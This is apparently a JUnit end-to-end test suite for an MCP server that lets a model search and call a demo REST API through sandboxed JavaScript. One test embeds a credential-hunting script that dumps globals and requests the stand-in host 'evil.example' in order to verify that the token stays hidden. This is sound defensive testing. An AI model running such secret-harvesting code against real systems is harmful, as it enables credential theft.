package dev.codemode.conformance;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.knuddels.jtokkit.Encodings;
import com.knuddels.jtokkit.api.Encoding;
import com.knuddels.jtokkit.api.EncodingType;
import dev.codemode.demo.DemoApi;
import io.modelcontextprotocol.json.McpJsonDefaults;
import io.modelcontextprotocol.spec.McpSchema;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Issue 2, end to end: the packaged jar over stdio, driven by the MCP Java SDK client, against the demo API running as
 * a real HTTP server on a real port, with the credential passed the way an operator would ({@code --auth env:}).
 */
class StdioEndToEndTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String TOKEN = "e2e-secret-" + UUID.randomUUID();
  private static DemoApi demo;
  private static StdioServer server;
  private static Path auditLog;

  @BeforeAll
  static void start() throws Exception {
    demo = DemoApi.start("127.0.0.1", 0, TOKEN);
    Path spec = Files.createTempFile("demo-spec", ".json");
    Files.writeString(spec, demo.openApiJson());
    auditLog = Files.createTempFile("audit", ".jsonl");
    server = new StdioServer(List.of("--audit-log", auditLog.toString(), "--spec", spec.toString(), "--base-url", demo.baseUrl().toString(),
        "--auth", "bearerAuth=env:DEMO_TOKEN", "--exec-timeout", "30s",
        "--cache-dir", Path.of("target", "codemode-cache").toAbsolutePath().toString()),
        Map.of("DEMO_TOKEN", TOKEN));
  }

  @AfterAll
  static void stop() {
    if (server != null) {
      server.close();
    }
    if (demo != null) {
      demo.close();
    }
  }

  @Test
  void listsExactlyTwoToolsWithinTheTokenBudget() throws Exception {
    McpSchema.ListToolsResult tools = server.client.listTools();
    assertEquals(List.of("search", "execute"), tools.tools().stream().map(McpSchema.Tool::name).toList());
    String json = McpJsonDefaults.getMapper().writeValueAsString(tools);
    Encoding enc = Encodings.newDefaultEncodingRegistry().getEncoding(EncodingType.O200K_BASE);
    int tokens = enc.countTokens(json);
    System.out.println("[figure] tools/list response: " + tokens + " tokens (o200k_base), " + json.length()
        + " chars");
    assertTrue(tokens <= 900, "tools/list is " + tokens + " tokens; the budget is 900");
    McpSchema.Tool search = tools.tools().get(0);
    assertEquals(Boolean.TRUE, search.annotations().readOnlyHint());
  }

  @Test
  void searchFindsTheOperationFromPlainWords() throws Exception {
    McpSchema.CallToolResult r = server.call("search", Map.of("query", "which support tickets are still open",
        "limit", 3));
    assertFalse(Boolean.TRUE.equals(r.isError()), StdioServer.text(r));
    JsonNode results = JSON.valueToTree(r.structuredContent()).get("results");
    List<String> ids = new ArrayList<>();
    results.forEach(n -> ids.add(n.get("operationId").asText()));
    assertTrue(ids.contains("listTickets"), "top 3 for a tickets question: " + ids);
    JsonNode first = results.get(0);
    for (String field : List.of("operationId", "method", "path", "summary")) {
      assertTrue(first.hasNonNull(field), field + " missing in " + first);
    }
    // The text for the model is compact JSON, not pretty-printed.
    assertFalse(StdioServer.text(r).contains("\n"));
  }

  /**
   * Once the semantic index is up (it warms in the background): a query the API cannot answer says so, and a query
   * naming a customer brings the operation that finds customers by name.
   */
  @Test
  void semanticSearchFlagsWeakMatchesAndBringsLookupsForNames() throws Exception {
    String cake = "bake a chocolate cake for my grandmother";
    JsonNode weak = null;
    long deadline = System.nanoTime() + java.time.Duration.ofSeconds(120).toNanos();
    while (System.nanoTime() < deadline) {
      // Lexical search finds none of these words; results appear when the semantic index has taken over.
      weak = JSON.valueToTree(server.call("search", Map.of("query", cake)).structuredContent());
      if (weak.get("results").size() > 0) {
        break;
      }
      Thread.sleep(250);
    }
    assertTrue(weak.get("results").size() > 0, "semantic search never took over: " + weak);
    assertTrue(weak.get("hint").asText().startsWith("Weak matches"), weak.toString());

    JsonNode named = JSON.valueToTree(server.call("search", Map.of("query",
        "cancel the open orders of Ada Lovelace", "limit", 5)).structuredContent());
    List<String> ids = new ArrayList<>();
    named.get("results").forEach(n -> ids.add(n.get("operationId").asText()));
    assertTrue(ids.subList(0, 3).contains("listCustomers"), "a customer's name needs the customer lookup: " + ids);
    assertTrue(named.get("hint").asText().startsWith("Call with"), named.toString());
  }

  @Test
  void searchShowsOneOperationInDetail() throws Exception {
    McpSchema.CallToolResult r = server.call("search", Map.of("detail", "createOrder"));
    assertFalse(Boolean.TRUE.equals(r.isError()), StdioServer.text(r));
    String text = StdioServer.text(r);
    JSON.readTree(text);
    assertTrue(text.contains("POST") && text.contains("/orders"), text);
    assertTrue(text.contains("customerId") || text.contains("customer_id"), "request body fields shown: " + text);
  }

  @Test
  void executePagesThroughThousandsOfRecordsAndReturnsASmallAggregate() throws Exception {
    String code = """
        let page = 1, count = 0, total = 0;
        while (page) {
          const r = await api.call('listOrders', { status: 'paid', page, per_page: 100 });
          for (const o of r.data) { count++; total += o.total; }
          page = r.next_page;
        }
        return { count, total: Math.round(total * 100) / 100 };
        """;
    McpSchema.CallToolResult r = server.call("execute", Map.of("code", code));
    String text = StdioServer.text(r);
    assertFalse(Boolean.TRUE.equals(r.isError()), text);
    JsonNode out = JSON.readTree(text);
    // The same aggregate, computed directly against the upstream.
    HttpClient http = HttpClient.newHttpClient();
    int count = 0;
    BigDecimal total = BigDecimal.ZERO;
    int all = 0;
    for (int page = 1; page > 0; ) {
      HttpRequest req = HttpRequest.newBuilder(URI.create(demo.baseUrl() + "/orders?status=paid&per_page=100&page="
          + page)).header("Authorization", "Bearer " + TOKEN).build();
      JsonNode body = JSON.readTree(http.send(req, HttpResponse.BodyHandlers.ofString()).body());
      for (JsonNode o : body.get("data")) {
        count++;
        total = total.add(o.get("total").decimalValue());
      }
      all = body.get("total").asInt();
      page = body.get("next_page").isNull() ? 0 : body.get("next_page").asInt();
    }
    assertTrue(count > 1000, "the demo should have thousands of paid orders, had " + count);
    assertEquals(all, count);
    assertEquals(count, out.at("/result/count").asInt());
    assertEquals(total.doubleValue(), out.at("/result/total").asDouble(), 0.05);
    int calls = out.get("calls").asInt();
    assertEquals((count + 99) / 100, calls);
    assertEquals("listOrders 200 x" + calls, out.at("/requests/0").asText(), out.toString());
    assertTrue(out.get("bytesIn").asLong() > 100 * out.get("bytesOut").asLong(),
        "bytes received should dwarf bytes returned: " + out);
    System.out.println("[figure] paging execute: " + calls + " upstream calls, " + out.get("bytesIn") + " bytes in, "
        + out.get("bytesOut") + " bytes out");
  }

  @Test
  void aScriptHuntingForTheCredentialFindsNothing() throws Exception {
    String code = """
        const found = [];
        const seen = new Set();
        const dump = (label, v, depth = 0) => {
          if (depth > 4 || v === null || v === undefined) return;
          if (typeof v === 'string') { found.push(label + '=' + v); return; }
          if (typeof v === 'function') { try { found.push(label + '.src=' + v.toString()); } catch (e) {} }
          if (typeof v !== 'object' && typeof v !== 'function') { found.push(label + '=' + String(v)); return; }
          if (seen.has(v)) return; seen.add(v);
          for (const k of Reflect.ownKeys(v)) {
            try { dump(label + '.' + String(k), v[k], depth + 1); } catch (e) { found.push(String(e)); }
          }
        };
        for (const k of Object.getOwnPropertyNames(globalThis)) {
          try { dump('g.' + k, globalThis[k]); } catch (e) { found.push(String(e)); }
        }
        dump('api', api); dump('apis', apis);
        // a computed id: pre-flight refuses a script whose literal operationIds do not exist
        try { await api.call('no' + 'pe'); } catch (e) { found.push(e.message, String(e.stack)); }
        try { await api.request({ method: 'GET', path: 'http://evil.example/x' }); } catch (e) { found.push(e.message); }
        try { await api.request({ method: 'GET', path: '/orders', headers: { Authorization: 'x' } }); }
        catch (e) { found.push(e.message); }
        const echo = await api.request({ method: 'GET', path: '/diagnostics/echo-headers' });
        found.push(JSON.stringify(echo));
        const list = await api.request({ method: 'GET', path: '/orders', query: { per_page: 1 } });
        found.push(JSON.stringify(list.headers));
        try { await api.call('getOrder', { orderId: 999999999 }); } catch (e) { found.push(e.message); }
        console.log(JSON.stringify(echo.body));
        return found.join('\\n');
        """;
    McpSchema.CallToolResult r = server.call("execute", Map.of("code", code));
    String text = StdioServer.text(r);
    assertFalse(Boolean.TRUE.equals(r.isError()), text);
    assertFalse(text.contains(TOKEN), "the credential leaked into the result");
    assertFalse(JSON.writeValueAsString(r.structuredContent()).contains(TOKEN));
    assertTrue(text.contains("[REDACTED]"), "the echoed Authorization header should be redacted: " + text);
    assertTrue(text.contains("must start with '/'"), "absolute URL refused with a reason");
    assertTrue(text.contains("carries the API credential"), "setting Authorization refused with a reason");
    for (String line : server.stderr) {
      assertFalse(line.contains(TOKEN), "the credential leaked into a log line: " + line);
    }
  }

  @Test
  void everyExecutionIsAuditedWithoutSecrets() throws Exception {
    String marker = "audit-marker-" + UUID.randomUUID();
    server.call("execute", Map.of("code", "await api.call('getOrder', {orderId: 3}); return '" + marker + "';"));
    String log = Files.readString(auditLog);
    assertFalse(log.contains(TOKEN), "no secret in the audit log");
    JsonNode entry = null;
    for (String line : log.split("\n")) {
      if (line.contains(marker)) {
        entry = JSON.readTree(line);
      }
    }
    assertNotNull(entry, "an audit line for the execution: " + log);
    assertEquals("OK", entry.get("outcome").asText());
    assertEquals("codemode-conformance/1.0", entry.get("client").asText());
    assertEquals("/orders/3", entry.at("/calls/0/path").asText());
    assertEquals(200, entry.at("/calls/0/status").asInt());
    assertTrue(entry.at("/calls/0/bytes").asLong() > 0);
    assertTrue(entry.has("time") && entry.has("ms") && entry.has("resultChars"), entry.toString());
  }

  @Test
  void aSyntaxErrorComesBackAsAnErrorNamingTheLine() throws Exception {
    McpSchema.CallToolResult r = server.call("execute", Map.of("code", "const a = 1;\nreturn a +;\n"));
    String text = StdioServer.text(r);
    assertTrue(Boolean.TRUE.equals(r.isError()), text);
    assertTrue(text.matches("(?s).*([Ll]ine 2|:2:).*"), "names line 2: " + text);
    assertFalse(text.contains("at org.graalvm") || text.contains("at dev.codemode"), "no Java stack: " + text);
  }

  @Test
  void anUnknownOperationSuggestsTheClosestOnes() throws Exception {
    McpSchema.CallToolResult r = server.call("execute", Map.of("code", "return await api.call('listOrder', {});"));
    String text = StdioServer.text(r);
    assertTrue(Boolean.TRUE.equals(r.isError()), text);
    assertTrue(text.contains("listOrders"), "suggests listOrders: " + text);
  }

  @Test
  void writesNeedConfirmationAndThisClientCannotGiveIt() throws Exception {
    McpSchema.CallToolResult r = server.call("execute", Map.of("code",
        "return await api.call('deleteOrder', { orderId: 1 });"));
    String text = StdioServer.text(r);
    assertTrue(Boolean.TRUE.equals(r.isError()), text);
    assertTrue(text.contains("--allow-writes"), text);
    // And nothing was deleted.
    HttpResponse<String> still = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
            URI.create(demo.baseUrl() + "/orders/1")).header("Authorization", "Bearer " + TOKEN).build(),
        HttpResponse.BodyHandlers.ofString());
    assertEquals(200, still.statusCode());
  }

  @Test
  void consoleLogLinesComeBackWithTheResult() throws Exception {
    McpSchema.CallToolResult r = server.call("execute", Map.of("code",
        "console.log('hello', {a: 1}); return 42;"));
    JsonNode out = JSON.readTree(StdioServer.text(r));
    assertEquals(42, out.get("result").asInt());
    assertNotNull(out.get("logs"));
    assertTrue(out.get("logs").get(0).asText().contains("hello"), out.toString());
  }
}
